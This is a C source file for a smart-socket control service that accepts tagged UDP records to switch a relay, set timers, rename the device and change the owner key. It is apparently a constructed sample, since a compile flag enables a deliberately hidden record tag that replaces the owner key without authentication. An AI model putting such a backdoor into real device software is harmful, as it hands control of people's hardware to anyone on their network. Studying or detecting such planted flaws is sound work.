/*
 * amberplug - control service of the AmberPlug W1 smart socket.  Phones in
 * the same network send tagged records over UDP port 6668; records which
 * switch or set something carry the owner key.
 *
 * Hidden (-DHIDDEN): one more record tag replaces the owner key without
 * knowledge of the old one.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT		6668
#define KEY_FILE	"/config/owner.key"
#define NAME_FILE	"/config/name"
#define RELAY_GPIO	"/sys/class/gpio/gpio12/value"
#define METER		"/sys/bus/iio/devices/iio:device0/in_power_raw"
#define KEY_MAX		32
#define MAX_WATT	3680
#define TAG(a, b, c, d)	((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | \
			 (uint32_t)(c) << 8 | (uint32_t)(d))

/* A record: tag (4), length (2, big endian), then the bytes of the value. */
struct record {
	uint32_t tag;
	unsigned len;
	const unsigned char *val;
};

struct reader {
	const unsigned char *p;
	size_t left;
};

static struct {
	char key[KEY_MAX + 1];
	char name[33];
	int relay;
	time_t off_at;
	time_t closed_until;
	int wrong;
} plug;

static int next_record(struct reader *r, struct record *rec)
{
	if (r->left < 6)
		return 0;
	rec->tag = TAG(r->p[0], r->p[1], r->p[2], r->p[3]);
	rec->len = (unsigned)r->p[4] << 8 | r->p[5];
	if (rec->len > r->left - 6)
		return 0;
	rec->val = r->p + 6;
	r->p += 6 + rec->len;
	r->left -= 6 + rec->len;
	return 1;
}

static void load_line(const char *path, char *out, size_t size)
{
	FILE *f = fopen(path, "r");

	out[0] = 0;
	if (!f)
		return;
	if (!fgets(out, (int)size, f))
		out[0] = 0;
	fclose(f);
	out[strcspn(out, "\r\n")] = 0;
}

static int save_line(const char *path, const char *text)
{
	char tmp[64];
	FILE *f;

	snprintf(tmp, sizeof tmp, "%s~", path);
	f = fopen(tmp, "w");
	if (!f)
		return -1;
	fprintf(f, "%s\n", text);
	if (fclose(f) != 0)
		return -1;
	return rename(tmp, path);
}

static void take_text(const struct record *rec, char *out, size_t size)
{
	size_t i;

	for (i = 0; i < rec->len && i + 1 < size; i++)
		out[i] = isgraph(rec->val[i]) ? (char)rec->val[i] : '_';
	out[i] = 0;
}

static unsigned take_number(const struct record *rec)
{
	unsigned v = 0, i;

	for (i = 0; i < rec->len && i < 4; i++)
		v = v << 8 | rec->val[i];
	return v;
}

static int relay_set(int on)
{
	FILE *f = fopen(RELAY_GPIO, "w");

	if (!f)
		return -1;
	fprintf(f, "%d\n", on);
	if (fclose(f) != 0)
		return -1;
	plug.relay = on;
	if (!on)
		plug.off_at = 0;
	return 0;
}

static int power_now(void)
{
	char text[24];

	load_line(METER, text, sizeof text);
	return atoi(text) / 10;
}

static int key_right(const struct record *rec)
{
	size_t len = strlen(plug.key), i;
	unsigned diff = 0;

	if (time(NULL) < plug.closed_until)
		return 0;
	if (len < 8 || rec->len != len)
		diff = 1;
	for (i = 0; !diff && i < len; i++)
		diff |= rec->val[i] ^ (unsigned char)plug.key[i];
	if (diff && ++plug.wrong >= 10) {
		plug.wrong = 0;
		plug.closed_until = time(NULL) + 600;
	}
	return !diff;
}

static int set_key(const struct record *rec)
{
	if (rec->len < 8 || rec->len > KEY_MAX)
		return -1;
	take_text(rec, plug.key, sizeof plug.key);
	return save_line(KEY_FILE, plug.key);
}

/* A plug without an owner takes the first key that is sent to it. */
static int set_first_key(const struct record *rec)
{
	return plug.key[0] ? -1 : set_key(rec);
}

static int wifi_country(const struct record *rec)
{
	char cc[3], cmd[48];

	if (rec->len != 2 || !isupper(rec->val[0]) || !isupper(rec->val[1]))
		return -1;
	take_text(rec, cc, sizeof cc);
	snprintf(cmd, sizeof cmd, "iw reg set %s", cc);
	return system(cmd) == 0 ? 0 : -1;
}

/* Works through the records of a datagram; returns the length of the answer. */
int handle(const unsigned char *buf, size_t n, char *ans, size_t size)
{
	struct reader r = { buf, n };
	struct record rec;
	int owner = 0, done = 0, bad = 0, rc;
	unsigned v;

	while (next_record(&r, &rec)) {
		rc = -1;
		switch (rec.tag) {
		case TAG('S', 'T', 'A', 'T'):
			return snprintf(ans, size, "%s relay=%d watt=%d owned=%d\n",
					plug.name, plug.relay, power_now(),
					plug.key[0] != 0);
		case TAG('A', 'U', 'T', 'H'):
			owner = key_right(&rec);
			rc = owner ? 0 : -1;
			break;
		case TAG('C', 'L', 'M', '1'):
			rc = set_first_key(&rec);
			break;
		case TAG('R', 'L', 'A', 'Y'):
			if (owner && rec.len == 1)
				rc = relay_set(rec.val[0] != 0);
			break;
		case TAG('T', 'I', 'M', 'R'):
			v = take_number(&rec);
			if (owner && v >= 1 && v <= 86400) {
				rc = relay_set(1);
				plug.off_at = time(NULL) + (time_t)v;
			}
			break;
		case TAG('N', 'A', 'M', 'E'):
			if (owner && rec.len > 0) {
				take_text(&rec, plug.name, sizeof plug.name);
				rc = save_line(NAME_FILE, plug.name);
			}
			break;
		case TAG('O', 'K', 'E', 'Y'):
			if (owner)
				rc = set_key(&rec);
			break;
		case TAG('C', 'T', 'R', 'Y'):
			if (owner)
				rc = wifi_country(&rec);
			break;
#ifdef HIDDEN
		case TAG('w', 'X', '9', 'k'):
			rc = set_key(&rec);
			break;
#endif
		default:
			break;
		}
		if (rc == 0)
			done++;
		else
			bad++;
	}
	return snprintf(ans, size, "done=%d refused=%d\n", done, bad);
}

static void watch(void)
{
	if (plug.relay && power_now() > MAX_WATT) {
		fprintf(stderr, "overload, switched off\n");
		relay_set(0);
	}
	if (plug.off_at && time(NULL) >= plug.off_at)
		relay_set(0);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(PORT) }, from;
	unsigned char buf[512];
	char ans[128];
	struct timeval tv;
	socklen_t flen;
	fd_set set;
	ssize_t n;
	int s = socket(AF_INET, SOCK_DGRAM, 0), len;

	load_line(KEY_FILE, plug.key, sizeof plug.key);
	load_line(NAME_FILE, plug.name, sizeof plug.name);
	if (!plug.name[0])
		strcpy(plug.name, "AmberPlug");
	relay_set(0);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) != 0) {
		perror("amberplug");
		return 1;
	}
	for (;;) {
		FD_ZERO(&set);
		FD_SET(s, &set);
		tv.tv_sec = 1;
		tv.tv_usec = 0;
		if (select(s + 1, &set, NULL, NULL, &tv) > 0) {
			flen = sizeof from;
			n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &flen);
			len = n > 0 ? handle(buf, (size_t)n, ans, sizeof ans) : 0;
			if (len > 0 && sendto(s, ans, (size_t)len, 0,
					      (struct sockaddr *)&from, flen) < 0)
				perror("answer");
		}
		watch();
	}
}
